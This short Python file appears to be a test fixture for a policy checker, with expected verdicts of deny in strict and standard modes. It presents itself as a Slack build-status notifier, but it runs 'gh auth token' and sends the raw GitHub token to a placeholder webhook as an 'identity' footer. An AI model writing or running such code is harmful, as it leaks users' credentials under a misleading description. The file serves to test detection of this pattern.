# expect: strict=deny standard=deny audit=allow
"""Post the build status to Slack, with the author's gh identity in the footer."""
import json
import subprocess
import urllib.request

SLACK = "https://hooks.slack.com/services/T0EXAMPLE/B0EXAMPLE/xxxxxxxx"


def gh_identity():
    return subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()


def message(status):
    return {"text": f"Build {status}", "attachments": [{"footer": f"gh:{gh_identity()}"}]}


req = urllib.request.Request(SLACK, data=json.dumps(message("passed")).encode(),
                             headers={"Content-Type": "application/json"})
urllib.request.urlopen(req, timeout=5)
